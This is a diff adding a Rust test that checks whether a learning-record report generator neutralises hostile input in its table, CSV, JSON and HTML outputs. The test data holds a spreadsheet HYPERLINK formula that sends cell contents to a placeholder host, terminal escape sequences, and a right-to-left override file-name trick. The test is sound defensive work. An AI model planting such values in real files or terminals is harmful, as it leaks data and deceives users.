@@ -275,3 +275,39 @@ fn the_html_report_escapes_what_the_lrs_says_and_needs_no_script() {
     };
     assert!(render::csv(&quoted).contains(",\"Un, \"\"deux\"\"\",2026-12,"));
 }
+
+#[test]
+fn what_the_lrs_says_reaches_no_terminal_as_a_command_and_no_spreadsheet_as_a_formula() {
+    let title = "=HYPERLINK(\"https://x.example/?\"&A1,\"clic\")\u{1b}]0;pwned\u{7}\u{1b}[2J\rÉcrasé";
+    let question = "Q\u{9b}31m\u{202E}cod.exe";
+    let mut aggregator = Aggregator::default();
+    let course =
+        json!({"id": "https://example.org/c\u{1b}[1m", "definition": {"type": COURSE_TYPE, "name": {"fr": title}}});
+    aggregator.add(&json!({"id": "1", "verb": {"id": RATED},
+        "actor": {"mbox": "mailto:a@b.c"}, "timestamp": "2026-12-01T00:00:00Z", "object": course,
+        "result": {"score": {"raw": 4, "min": 1, "max": 5}, "response": "Merci\r\n\u{1b}[2Jfin"},
+        "context": {"registration": "r"}}));
+    aggregator.add(&json!({"id": "2", "verb": {"id": format!("{ADL}answered")},
+        "actor": {"mbox": "mailto:a@b.c"}, "timestamp": "2026-12-01T00:00:01Z",
+        "object": {"id": "https://example.org/c/questions/q1", "definition": {"type": "http://adlnet.gov/expapi/activities/cmi.interaction", "name": {"fr": question}}},
+        "result": {"success": true},
+        "context": {"registration": "r", "contextActivities": {"parent": [{"id": "https://example.org/c/assessments/final", "definition": {"type": ASSESSMENT_TYPE}}], "grouping": [course]}}}));
+    let report = aggregator.report();
+    let is_command = |c: char| crate::safe_text::is_control(c) && c != '\n';
+    for (what, output) in [
+        ("table", render::table(&report)),
+        ("csv", render::csv(&report)),
+        ("json", serde_json::to_string_pretty(&report).unwrap()),
+        ("html", render::html(&report, "7 décembre 2026")),
+    ] {
+        assert!(!output.chars().any(is_command), "{what}: {output:?}");
+    }
+    let table = render::table(&report);
+    assert!(table.contains("=HYPERLINK(") && table.contains("\\u{1b}]0;pwned\\u{7}\\u{1b}[2J\\u{d}Écrasé"), "{table}");
+    assert!(table.contains("Q\\u{9b}31m\\u{202e}cod.exe"), "the question, as text: {table}");
+    let csv = render::csv(&report);
+    let row = csv.lines().nth(1).unwrap();
+    assert!(row.contains(",\"'=HYPERLINK(\"\"https://x.example/?\"\"&A1,\"\"clic\"\")"), "{row}");
+    assert!(row.ends_with(",0,0,0,1,0"), "the figures stay numbers: {row}");
+    assert_eq!(report.courses[0].comments, vec!["Merci\n\\u{1b}[2Jfin".to_owned()], "a comment keeps its lines");
+}
